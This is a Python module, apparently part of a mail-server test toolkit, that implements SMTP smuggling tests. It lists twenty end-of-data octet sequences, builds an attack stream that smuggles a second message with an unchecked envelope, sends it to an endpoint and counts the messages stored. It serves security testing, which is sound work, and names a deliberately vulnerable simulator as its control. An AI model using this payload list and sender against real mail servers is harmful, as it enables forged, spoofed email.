r"""SMTP smuggling: twenty octet sequences that some server, somewhere, takes for the end of mail data.

An attacker puts one of them into a message, and commands for a second message behind it. Whoever ends the first message there stores two,
the second with an envelope that nobody checked. RFC 5321 4.1.1.4 knows one end of mail data, CRLF "." CRLF; 2.3.8 forbids bare CR and LF.
``penstock.sim.vulnerable`` is the positive control: eleven of the twenty get through it.
"""

from __future__ import annotations

import contextlib
import re
from enum import Enum
from typing import Final, NamedTuple

from penstock.mail.configuration import Endpoint
from penstock.sim.raw_client import PATIENCE, RawClient

#: Name and octets of each sequence.
SEQUENCES: Final[dict[str, bytes]] = {
    "LF . LF": b"\n.\n",
    "LF . CR": b"\n.\r",
    "CR . LF": b"\r.\n",
    "CR . CR": b"\r.\r",
    "LF . CRLF": b"\n.\r\n",
    "CR . CRLF": b"\r.\r\n",
    "CRLF . LF": b"\r\n.\n",
    "CRLF . CR": b"\r\n.\r",
    "CRLF NUL . CRLF": b"\r\n\x00.\r\n",
    "CRLF . NUL CRLF": b"\r\n.\x00\r\n",
    "CRLF . CR CRLF": b"\r\n.\r\r\n",
    "CR CRLF . CR CRLF": b"\r\r\n.\r\r\n",
    "CRLF . SP CRLF": b"\r\n. \r\n",
    "CRLF . HTAB CRLF": b"\r\n.\t\r\n",
    "CRLF . VT CRLF": b"\r\n.\x0b\r\n",
    "CRLF . FF CRLF": b"\r\n.\x0c\r\n",
    "FS . FS": b"\x1c.\x1c",
    "CRLF . NEL": b"\r\n.\xc2\x85",
    "LS . LS": b"\xe2\x80\xa8.\xe2\x80\xa8",
    "CRLF . CR NUL LF": b"\r\n.\r\x00\n",
}

#: What gets through a server that takes CR, LF and CRLF for the end of a line alike.
UNIVERSAL_NEWLINES: Final = frozenset(
    {
        "LF . LF",
        "LF . CR",
        "CR . LF",
        "CR . CR",
        "LF . CRLF",
        "CR . CRLF",
        "CRLF . LF",
        "CRLF . CR",
        "CRLF . CR CRLF",
        "CR CRLF . CR CRLF",
        "CRLF . CR NUL LF",
    }
)

_END: Final = b"\r\n.\r\n"
_REPLY = re.compile(rb"^([0-9]{3})(?: [^\n]*)?\r?\n", re.MULTILINE)


class Sending(Enum):
    """How the attack's octets are cut into segments."""

    WHOLE = "in one write"
    EACH_OCTET = "octet by octet"
    SPLIT = "in two writes"


class Attempt(NamedTuple):
    """What came of one attack: how many messages the server said it stored, and all its replies from the one to DATA on."""

    stored: int
    replies: bytes


def attack_stream(
    sequence: bytes, *, sender: str = "smuggled@b.test", recipient: str = "c@d.test", subject: str = "two"
) -> bytes:
    """What is sent after 354: the first message, ``sequence``, commands and content of the second, and a real end of mail data."""
    return (
        b"Subject: one\r\n\r\nfirst"
        + sequence
        + f"MAIL FROM:<{sender}>\r\nRCPT TO:<{recipient}>\r\nDATA\r\nSubject: {subject}\r\n\r\nx".encode()
        + _END
    )


def count_stored(replies: bytes) -> int:
    """How many messages were stored, by a server's replies from the one to DATA on: each 2yz that comes next after a 354."""
    stored, awaited = 0, False
    for match in _REPLY.finditer(replies):
        if match[1] == b"354":
            awaited = True
        elif awaited:
            awaited = False
            stored += match[1].startswith(b"2")
    return stored


async def attempt(
    endpoint: Endpoint,
    sequence: bytes,
    *,
    sending: Sending = Sending.WHOLE,
    offset: int = 0,
    sender: str = "a@b.test",
    recipient: str = "c@d.test",
    within: float = PATIENCE,
) -> Attempt:
    """Attack the server at ``endpoint`` once; a good one stores no message or one, and says 250 at most once behind 354.

    ``sender`` and ``recipient`` are those of both messages. ``offset`` is where the stream is parted when it is sent ``SPLIT``.
    The replies are complete: QUIT follows the attack, and the connection is read until the server ends it.
    """
    async with RawClient(endpoint, within=within) as client:
        await client.expect(b"220")
        await client.ask(b"EHLO attacker.test\r\n", b"250")
        await client.ask(f"MAIL FROM:<{sender}>\r\n".encode(), b"250")
        await client.ask(f"RCPT TO:<{recipient}>\r\n".encode(), b"250")
        replies = (await client.ask(b"DATA\r\n", b"354"))[0]
        # A server that hangs up in the middle has said all that it will say.
        with contextlib.suppress(ConnectionError):
            await _send(client, attack_stream(sequence, sender=sender, recipient=recipient), sending, offset)
            replies += await client.reply()
            await client.send(b"QUIT\r\n")
        replies += await client.until_closed()
    return Attempt(count_stored(replies), replies)


async def _send(client: RawClient, stream: bytes, sending: Sending, offset: int) -> None:
    if sending is Sending.WHOLE:
        await client.send(stream)
    elif sending is Sending.EACH_OCTET:
        await client.send_each_octet(stream)
    else:
        await client.send_split(stream, offset)
